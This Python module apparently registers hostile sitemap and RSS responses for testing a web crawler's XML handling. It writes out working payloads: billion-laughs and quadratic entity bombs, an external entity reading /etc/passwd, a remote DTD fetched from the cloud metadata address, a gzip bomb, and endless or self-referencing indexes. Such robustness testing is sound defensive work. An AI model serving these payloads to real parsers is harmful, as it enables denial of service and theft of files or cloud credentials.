"""Sitemaps and feeds that are attacks on an XML parser or on the queue."""

from __future__ import annotations

from gossamer.demo.message import Ask, Reply
from gossamer.testing.web import sitemap_xml
from kit.hostile.bodies import gzip_bomb
from kit.hostile.registry import PROSE, Answer, Pace, add, always, flood, page

_G = "sitemaps"
_NAMESPACE = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
_URLSET = f'<?xml version="1.0"?><urlset {_NAMESPACE}>'


def _xml(text: str | bytes) -> Answer:
    return always(Reply(text, content_type="application/xml"))


def _laughs(root: str, element: str) -> str:
    """Ten entities, each ten times the one before: a billion in the end."""
    entities = ['<!ENTITY e0 "http://hostile.test/">']
    entities += [f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10)]
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{"".join(entities)}]>{element.format("&e9;")}'


def _index(ask: Ask, *paths: str) -> Reply:
    rows = "".join(f"<sitemap><loc>http://{ask.site}{path}</loc></sitemap>" for path in paths)
    return Reply(f"<sitemapindex {_NAMESPACE}>{rows}</sitemapindex>", content_type="application/xml")


def _endless_index(ask: Ask, pace: Pace) -> Reply:
    last = ask.path.rpartition("/")[2]
    number = int(last) if last.isdecimal() else 0
    return _index(ask, *(f"/sitemap-index-endless/{2 * number + n}" for n in (1, 2)))


def _bomb(ask: Ask, pace: Pace) -> Reply:
    return Reply(gzip_bomb(), content_type="application/gzip", compress=False)


def _many(ask: Ask, pace: Pace) -> Reply:
    urls = ((f"http://{ask.site}/numbers/{n}", "") for n in range(60_000))
    return Reply(sitemap_xml(urls), content_type="application/xml")


_EXTERNAL = '<!DOCTYPE urlset [<!ENTITY file SYSTEM "file:///etc/passwd">]>'
_REMOTE = '<!DOCTYPE urlset SYSTEM "http://169.254.169.254/evil.dtd">'
_ENTRY = "<url><loc>{}</loc></url>"

add(
    _G,
    "sitemap-laughs",
    "An XML entity bomb (billion laughs).",
    _xml(_laughs("urlset", f"<urlset {_NAMESPACE}>{_ENTRY}</urlset>")),
)
add(
    _G,
    "sitemap-quadratic",
    "One long entity used 50,000 times.",
    _xml(f'<!DOCTYPE u [<!ENTITY a "{"a" * 50_000}">]><urlset><url><loc>{"&a;" * 50_000}</loc></url></urlset>'),
)
add(
    _G,
    "sitemap-file-entity",
    "An entity that reads a local file.",
    _xml(f'<?xml version="1.0"?>{_EXTERNAL}<urlset {_NAMESPACE}>{_ENTRY.format("http://x/&file;")}</urlset>'),
)
add(
    _G,
    "sitemap-remote-dtd",
    "A document type on another host.",
    _xml(f'<?xml version="1.0"?>{_REMOTE}<urlset {_NAMESPACE}></urlset>'),
)
add(_G, "sitemap-bomb", "A gzip file of 256 MB labelled as a sitemap.", _bomb)
add(
    _G,
    "sitemap-endless",
    "A sitemap that never ends.",
    flood(
        f"HTTP/1.1 200 OK\r\nContent-Type: application/xml\r\n\r\n{_URLSET}".encode(),
        _ENTRY.format("http://hostile.test/numbers/1").encode() * 200,
    ),
)
add(_G, "sitemap-60000", "60,000 URLs, more than the protocol allows.", _many)
add(
    _G,
    "sitemap-truncated",
    "The XML ends in the middle.",
    _xml(_URLSET + _ENTRY.format("http://hostile.test/numbers/1") + "<url><loc>http://hos"),
)
add(_G, "sitemap-html", "A page instead of a sitemap.", always(page("Sitemap", PROSE)))
add(_G, "sitemap-deep", "100,000 nested elements.", _xml(_URLSET + "<url>" * 100_000))
add(
    _G,
    "sitemap-foreign",
    "URLs of other hosts and other protocols.",
    _xml(sitemap_xml([("http://elsewhere.invalid/", ""), ("file:///etc/passwd", ""), ("/relative", ""), ("", "")])),
)
add(
    _G,
    "sitemap-dates",
    "Dates that are none.",
    _xml(
        sitemap_xml(
            [
                (f"http://hostile.test/numbers/{n}", d)
                for n, d in enumerate(("yesterday", "9999-99-99", "0000-00-00", "2024-02-30T25:00:00Z", "1e400", "-1"))
            ]
        )
    ),
)
add(
    _G,
    "sitemap-index-self",
    "A sitemap index that lists itself.",
    lambda ask, pace: _index(ask, "/sitemap-index-self", "/sitemap-index-self"),
)
add(_G, "sitemap-index-endless", "Every sitemap index lists two more.", _endless_index)
add(
    _G,
    "feed-laughs",
    "An RSS feed with an entity bomb.",
    _xml(_laughs("rss", "<rss version='2.0'><channel><item><link>{}</link></item></channel></rss>")),
)
